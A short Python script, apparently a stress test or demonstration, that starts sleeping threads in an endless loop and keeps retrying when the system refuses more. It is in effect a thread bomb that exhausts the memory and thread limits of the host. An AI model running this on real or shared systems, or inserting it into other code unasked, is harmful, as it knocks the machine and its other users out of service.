"""Starts threads for ever, and goes on when it cannot."""

import threading
import time

while True:
    try:
        threading.Thread(target=time.sleep, args=(60,)).start()
    except (RuntimeError, MemoryError):
        time.sleep(0.001)
